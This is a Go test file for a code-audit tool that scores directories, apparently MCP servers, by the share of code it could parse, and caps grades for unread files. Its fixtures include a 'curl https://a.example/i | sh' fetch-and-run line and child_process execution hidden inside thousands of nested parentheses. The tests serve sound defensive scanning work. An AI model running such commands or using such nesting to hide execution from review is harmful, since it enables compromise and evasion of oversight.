package audit

import (
	"fmt"
	"strings"
	"testing"
)

var (
	// deep is nested as no person nests, with code that Node runs within.
	deep = strings.Repeat("(", 3_000) + "require('child_process').exec('x')" + strings.Repeat(")", 3_000) + ";\n"
	much = strings.Repeat("fn run() { std::process::Command::new(\"sh\"); }\n", 40)
	elf  = "\x7fELF\x00\x00\x00\x01"
)

// A score is given where most of the code's bytes were parsed, tests and samples aside.
func TestWhatNobodyParsedHasNoScore(t *testing.T) {
	for _, c := range []struct {
		name, want string
		files      map[string]string
	}{
		{"Rust", "no parser", map[string]string{"src/main.rs": much, "Cargo.toml": "[package]\nname = \"x\"\n"}},
		{"Ruby", "no parser", map[string]string{"server.rb": "system('ls')\n"}},
		{"a script of another interpreter", "no parser", map[string]string{"bin/server": "#!/usr/bin/perl\nsystem('ls');\n"}},
		{"a launcher beside it", "of the code's bytes", map[string]string{"src/main.rs": much, "run.js": "require('child_process').spawn('./x');\n"}},
		{"many small files do not help", "of the code's bytes", map[string]string{"src/main.rs": much, "a.js": "", "b.js": "", "c.js": "a()", "d.py": "b()"}},
		{"a server in a directory of samples", "no parser", map[string]string{"examples/server.rb": much}},
		{"a shell's script that is not read", "no parser", map[string]string{"run.sh": strings.Repeat("(", 300)}},
		{"a program of a machine", "compiled", map[string]string{"server": elf, "README.md": "x"}},
		{"Python", "", map[string]string{"server.py": "print(1)\n"}},
		{"most of it is JavaScript", "", map[string]string{"index.js": strings.Repeat("run(1);\n", 100), "native/a.c": "int main() {}\n"}},
		{"a fixture in another language", "", map[string]string{"index.js": "run(1);\n", "test/fixtures/a.rs": much}},
		{"declarations of types", "", map[string]string{"index.js": "run(1);\n", "index.d.ts": strings.Repeat("export declare const x: 1;\n", 9)}},
		{"no code", "", map[string]string{"mcp.json": "{}"}},
		{"a prebuilt addon", "", map[string]string{"index.js": "run(1);\n", "prebuilds/a.node": elf}},
	} {
		r, err := Dir(t.Context(), write(t, c.files))
		if err != nil {
			t.Fatal(err)
		}
		isF := r.Grade == "F" && r.Score == 0
		if !strings.Contains(r.Ungraded, c.want) || (r.Ungraded == "") != (c.want == "") || isF != (c.want != "") {
			t.Errorf("%s: %q, %d (%s), %d of %d bytes", c.name, r.Ungraded, r.Score, r.Grade, r.Profile.ParsedBytes, r.Profile.CodeBytes)
		}
	}
}

// What has no tree is named, and is the server's program where the server loads it.
func TestPartsWithoutATree(t *testing.T) {
	const rest = "run(1);\nrun(2);\n"
	long := strings.Repeat(rest, 3_000)
	tool := "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nnew McpServer({}).tool('t', {}, async () => {});\n"
	for _, c := range []struct {
		name, want string
		files      map[string]string
	}{
		{"the manifest's", "lib/a.js true", map[string]string{"package.json": `{"bin": "lib/a.js"}`, "lib/a.js": long + deep}},
		{"with a tool", "a.mjs true", map[string]string{"a.mjs": tool + long + deep}},
		{"imported", "b.js true", map[string]string{"a.js": "require('./b');", "b.js": long + deep}},
		{"imported by another require", "b.js true", map[string]string{"a.mjs": "import { createRequire as c } from 'module'; const r = c('/'); r('./b');", "b.js": long + deep}},
		{"imported from among the tests", "test/b.js true", map[string]string{"a.js": "require('./test/b.js');", "test/b.js": long + deep}},
		{"started", "b.js true", map[string]string{"a.js": "require('child_process').spawn('node', ['b.js']);", "b.js": long + deep}},
		{"with an ending of its own", "b.dat true", map[string]string{"a.js": "require('./b.dat');", "b.dat": long + deep}},
		{"Python's", "pkg/b.py true", map[string]string{"pkg/a.py": "from . import b\n", "pkg/b.py": "x = (\n" + long}},
		{"a template that nobody imports", "templates/x.py false", map[string]string{"a.py": "f()\n", "templates/x.py": "import {{ name }}\n"}},
		{"a broken fixture", "test/x.js false", map[string]string{"a.js": "f()", "test/x.js": "let = = ;", "test/run.js": "require('./x.js')"}},
		{"data of another program", "q.sql false", map[string]string{"a.js": "require('child_process').spawn('psql', ['./q.sql']);", "q.sql": "SELECT a FROM b WHERE c = 1 ORDER BY d"}},
		{"a page among the constants", "page.html false", map[string]string{"a.js": "const page = './page.html'; require(process.argv[2]); serve(page);", "page.html": "<!doctype html>\n" + tool}},
		{"a declaration of types", "b.d.ts false", map[string]string{"a.ts": "import { x } from './b.d.ts';", "b.d.ts": "let = = ;"}},
	} {
		r, err := Dir(t.Context(), write(t, c.files))
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, u := range r.PartlyParsed {
			got = append(got, fmt.Sprint(u.Path, " ", u.Program))
			if u.Parts == 0 || u.Why == "" {
				t.Errorf("%s: %+v", c.name, u)
			}
		}
		if strings.Join(got, ", ") != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func TestACommandNamesAFile(t *testing.T) {
	for _, c := range []struct {
		path, word string
		want       bool
	}{
		{"server.js", "/app/server.js", true}, {"lib/server.js", "server.js", true}, {"server.js", "./server.js", true},
		{"server.js", "observer.js", false}, {"server.js", "", false}, {"server.js", ".", false}, {"server.js", "/", false},
	} {
		if got := (&PartlyParsed{Path: c.path}).Names(c.word); got != c.want {
			t.Errorf("%s, %q: %t", c.path, c.word, got)
		}
	}
}

// Where a share of the code has no parser, the grade says so, and the report names what was not read.
func TestTheGradeIsCapped(t *testing.T) {
	t.Parallel()
	python := strings.Repeat("run(1)\n", 100)
	bytesOf := func(n int) string { return strings.Repeat("x", n) }
	for _, c := range []struct {
		name, want string
		files      map[string]string
	}{
		{"a third of it is Rust", "89 B coalmine parsed 66% of the code's bytes: .rs 2 350 native/lib.rs", map[string]string{"a.py": python, "native/lib.rs": bytesOf(300), "native/b.rs": bytesOf(50)}},
		{"a program without an ending", "89 B coalmine parsed 77% of the code's bytes:  1 200 bin/x", map[string]string{"a.py": python, "bin/x": "#!/usr/bin/perl\n" + bytesOf(184)}},
		{"a small addition", "100 A : .c 1 70 a.c", map[string]string{"a.py": python, "a.c": bytesOf(70)}},
		{"tests of another language", "100 A : ", map[string]string{"a.py": python, "tests/a.rs": bytesOf(500)}},
		{"a score that is no A", "85 B : .rs 1 300 a.rs", map[string]string{"a.py": python, "a.rs": bytesOf(300), "x.sh": "curl https://a.example/i | sh\n"}},
		{"most of it", "0 F : .rs 1 1000 a.rs", map[string]string{"a.py": python, "a.rs": bytesOf(1000)}},
	} {
		r, err := Dir(t.Context(), write(t, c.files))
		if err != nil {
			t.Fatal(err)
		}
		got := fmt.Sprintf("%d %s %s: ", r.Score, r.Grade, r.Capped)
		for _, k := range r.NotRead {
			got += fmt.Sprintf("%s %d %d %s", k.Ending, k.Files, k.Bytes, k.Example)
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}
